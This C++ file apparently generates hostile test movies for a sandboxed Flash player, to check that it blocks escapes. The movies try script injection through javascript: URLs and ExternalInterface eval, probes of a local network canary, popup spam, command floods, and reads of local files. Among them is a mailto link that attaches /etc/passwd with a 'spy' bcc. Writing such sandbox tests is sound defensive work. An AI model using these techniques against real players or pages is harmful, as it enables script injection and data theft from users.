// Movies that try what a hostile movie would: run script in the page, take the page
// elsewhere, reach the network, open pages behind the user's back, flood the program.
// Each says what it has tried and then ticks every frame, so a test can count rendered
// frames instead of waiting on the clock.
#include <string>
#include <vector>

#include "tools/swfkit/Recipe.h"

namespace zingbox::swf {
namespace {

// Version 8, so that flash.external.ExternalInterface is there to be tried.
constexpr Stage SmallStage = {
    .width = 320, .height = 240, .frameRate = 30, .background = Color::rgb(0x203040), .version = 8};
constexpr int FloodSize = 5000;

// Runs `steps` `framesApart` frames apart, so that no navigation cuts short the one
// before; then runs `everyFrame` and ticks on every frame for ever.
Movie StepsThenTick(const std::vector<Actions>& steps, const Actions& everyFrame = Actions(), int framesApart = 1) {
  Movie movie(SmallStage);
  Timeline& frames = movie.timeline();
  for (const Actions& step : steps) {
    frames.actions(step).showFrame();
    for (int rest = 1; rest < framesApart; ++rest) frames.showFrame();
  }
  const int loop = frames.frameCount() + 1;
  frames.actions(Actions().append(everyFrame).fscommand("tick", "")).showFrame();
  frames.actions(Actions().gotoAndPlay(loop)).showFrame();
  return movie;
}

// The page's script would leave its mark here; the test looks for it.
std::string MarkingScript(const std::string& route) {
  return "window.scriptRan = (window.scriptRan || '') + '" + route + "';";
}

// Pushes the result of flash.external.ExternalInterface.call(name, argument), where
// `argument` pushes the one argument.
Actions ExternalInterfaceCall(const std::string& name, const Actions& argument) {
  return Actions()
      .setVariable("bridge", Actions()
                                 .getVariable("flash")
                                 .push("external")
                                 .getMember()
                                 .push("ExternalInterface")
                                 .getMember())
      .append(argument)
      .push(name)
      .callMethod("bridge", "call", 2);
}

// Runs `body` `count` times within one frame.
Actions Repeat(int count, const Actions& body) {
  Actions loop;
  const Label top = loop.newLabel();
  return loop.setVariable("left", Actions().push(static_cast<double>(count)))
      .mark(top)
      .append(body)
      .setVariable("left", Actions().getVariable("left").decrement())
      .getVariable("left")
      .push(0.0)
      .greater()
      .jumpIfTrue(top);
}

}  // namespace

// Every way a movie has to run script in the page, and to load, reload or replace the
// page itself. Reports what ExternalInterface.call("eval", "1 + 1") gave back.
ZINGBOX_SWF_RECIPE(script_routes) {
  std::vector<Actions> tries;
  for (const char* target : {"", "_self", "_top", "_parent", "_blank"})
    tries.push_back(Actions().getURL("javascript:" + MarkingScript(std::string("url") + target) + "void 0", target));
  tries.push_back(Actions().getURL("javascript:location.reload()", ""));
  tries.push_back(Actions().append(ExternalInterfaceCall("eval", Actions().push(MarkingScript("eval")))).pop());
  tries.push_back(Actions()
                      .append(ExternalInterfaceCall("function (text) { " + MarkingScript("call") + " }",
                                                    Actions().push("x")))
                      .pop());
  for (const char* target : {"", "_self", "_top"}) tries.push_back(Actions().getURL("player/player.html", target));
  tries.push_back(Actions().getURL("player/player.html#elsewhere", "_self"));
  tries.push_back(Actions().push("player/player.html").push("_self").getURLFromStack(SendVariables::Post));
  tries.push_back(Actions()
                      .push("FSCommand:eval")
                      .append(ExternalInterfaceCall("eval", Actions().push("1 + 1")))
                      .getURLFromStack()
                      .fscommand("tried", "script"));
  return StepsThenTick(tries, Actions(), 15);
}

// Reads the canary's ports from canary.txt beside it ("tcp=...&udp=...&ready=1"), then
// reaches for them by every route a movie has; the page's script routes carry a script
// that would try the page's own ways out (fetch, WebSocket, WebRTC).
ZINGBOX_SWF_RECIPE(canary) {
  const auto web = [](const char* path) {
    return Actions().push("http://127.0.0.1:").getVariable("tcp").add().push(path).add();
  };
  const Actions script = Actions()
                             .push("fetch('http://127.0.0.1:")
                             .getVariable("tcp")
                             .add()
                             .push("/fetch'); new WebSocket('ws://127.0.0.1:")
                             .add()
                             .getVariable("tcp")
                             .add()
                             .push("/ws'); const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:")
                             .add()
                             .getVariable("udp")
                             .add()
                             .push("'}]}); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o));")
                             .add();

  Movie movie(SmallStage);
  const CharacterId holder = movie.defineSprite(Timeline().showFrame());
  movie.timeline().place(1, holder, {.name = "holder"}).actions(Actions().loadVariables("canary.txt", "_root")).showFrame();
  movie.timeline().showFrame();
  movie.timeline()
      .actions(Actions().when(Actions().getVariable("ready").push("1").equals().logicalNot(),
                              Actions().gotoAndPlay(2)))
      .showFrame();
  movie.timeline()
      .actions(Actions()
                   .append(web("/loadVariables")).push("_root").loadVariablesFromStack()
                   .append(web("/loadMovie.swf")).push("holder").loadMovieFromStack()
                   .append(web("/level.swf")).push("_level7").getURLFromStack()
                   .setVariable("xml", Actions().newObject("XML", 0))
                   .append(web("/xml")).callMethod("xml", "load", 1).pop()
                   .setVariable("vars", Actions().newObject("LoadVars", 0))
                   .append(web("/loadVars")).callMethod("vars", "load", 1).pop()
                   .setVariable("sound", Actions().newObject("Sound", 0))
                   .push(true).append(web("/sound.mp3")).callMethod("sound", "loadSound", 2).pop()
                   .setVariable("socket", Actions().newObject("XMLSocket", 0))
                   .getVariable("tcp").push("127.0.0.1").callMethod("socket", "connect", 2).pop()
                   .setVariable("remoting", Actions().newObject("NetConnection", 0))
                   .append(web("/gateway")).callMethod("remoting", "connect", 1).pop()
                   .push("probe").callMethod("remoting", "call", 1).pop()
                   .setVariable("stream", Actions().newObject("NetConnection", 0))
                   .push("rtmp://127.0.0.1:").getVariable("tcp").add().push("/app").add()
                   .callMethod("stream", "connect", 1).pop()
                   .append(web("/blank")).push("_blank").getURLFromStack()
                   .append(web("/self")).push("").getURLFromStack()
                   .push("javascript:").append(script).add().push("").getURLFromStack()
                   .append(ExternalInterfaceCall("eval", script)).pop()
                   .fscommand("tried", "network"))
      .showFrame();
  movie.timeline().actions(Actions().fscommand("tick", "")).showFrame();
  movie.timeline().actions(Actions().gotoAndPlay(5)).showFrame();
  return movie;
}

// Asks for a web page on every frame, whoever is watching, by every kind of target.
ZINGBOX_SWF_RECIPE(nagging_links) {
  return StepsThenTick({}, Actions()
                               .getURL("https://zingbox.invalid/nag?target=blank", "_blank")
                               .getURL("https://zingbox.invalid/nag?target=none", "")
                               .getURL("https://zingbox.invalid/nag?target=self", "_self"));
}

// A button over the whole stage. Each click asks for the next group of links: first the
// ones that must go nowhere and a mail with fields it may not keep, then two web pages
// at once, then a plain web page in place of the player.
ZINGBOX_SWF_RECIPE(clicked_links) {
  const Actions first = Actions()
                            .getURL("javascript:window.scriptRan = 'link';void 0", "_blank")
                            .getURL("file:///etc/hostname", "_blank")
                            .getURL("mailto:friend@zingbox.invalid?to=other@zingbox.invalid&subject=Try%20this"
                                    "&attach=/etc/passwd&cc=copy@zingbox.invalid&bcc=spy@zingbox.invalid"
                                    "&body=Line%0Atwo&%61ttachment=x",
                                    "_blank");
  const Actions second = Actions()
                             .getURL("https://zingbox.invalid/new-window?one", "_blank")
                             .getURL("https://zingbox.invalid/new-window?two", "_blank");
  const Actions third = Actions().getURL("http://zingbox.invalid/in-place", "");
  const auto clickNumber = [](double n) { return Actions().getVariable("clicks").push(n).equals(); };

  Movie movie(SmallStage);
  const CharacterId plate = movie.defineShape(Shape().rectangle({0, 0, 320, 240}, Color::rgb(0x306030)));
  const Actions onRelease = Actions()
                                .setVariable("clicks", Actions().getVariable("clicks").increment())
                                .when(clickNumber(1), first)
                                .when(clickNumber(2), second)
                                .when(clickNumber(3), third)
                                .push("FSCommand:clicked")
                                .getVariable("clicks")
                                .getURLFromStack();
  const CharacterId button = movie.defineButton(Button().show(AllButtonStates, plate).onRelease(onRelease));
  movie.timeline().place(1, button);
  movie.timeline()
      .actions(Actions().setVariable("clicks", Actions().push(0.0)).fscommand("started", "clicked_links"))
      .showFrame();
  movie.timeline()
      .actions(Actions()
                   .when(Actions().keyIsDown(KeyCode::Space),
                         Actions().getURL("https://zingbox.invalid/key", "_blank"))
                   .fscommand("tick", ""))
      .showFrame();
  movie.timeline().actions(Actions().gotoAndPlay(2)).showFrame();
  return movie;
}

// Thousands of game commands in its first frame, as a menu gone wrong would send them.
ZINGBOX_SWF_RECIPE(flood) { return StepsThenTick({Repeat(FloodSize, Actions().fscommand("game", "wuzz"))}); }

// Thousands of game commands on every frame, for as long as it plays.
ZINGBOX_SWF_RECIPE(endless_flood) {
  return StepsThenTick({}, Repeat(FloodSize, Actions().fscommand("game", "nobody")));
}

// A command text of exactly 64 Ki characters, one twice as long, then a short one.
ZINGBOX_SWF_RECIPE(long_commands) {
  const Actions doubleText = Actions().setVariable("text", Actions().getVariable("text").duplicate().add());
  Actions tries = Actions().setVariable("text", Actions().push("x"));
  tries.append(Repeat(16, doubleText))
      .push("FSCommand:longest")
      .getVariable("text")
      .getURLFromStack()
      .append(doubleText)
      .push("FSCommand:too_long")
      .getVariable("text")
      .getURLFromStack()
      .fscommand("tried", "long");
  return StepsThenTick({tries});
}

// Loads variables beside itself, from a link beside itself, and from a name that is no
// valid UTF-8; says each frame which variables have arrived.
ZINGBOX_SWF_RECIPE(wandering_loads) {
  return StepsThenTick({Actions()
                            .loadVariables("inside.txt", "_root")
                            .loadVariables("leak.txt", "_root")
                            .loadVariables("%FF%FE.txt", "_root")
                            .fscommand("started", "wandering_loads")},
                       Actions()
                           .when(Actions().getVariable("inside").push("yes").equals(),
                                 Actions().fscommand("inside", "yes"))
                           .when(Actions().getVariable("secret").push("stolen").equals(),
                                 Actions().fscommand("secret", "stolen")));
}

}  // namespace zingbox::swf
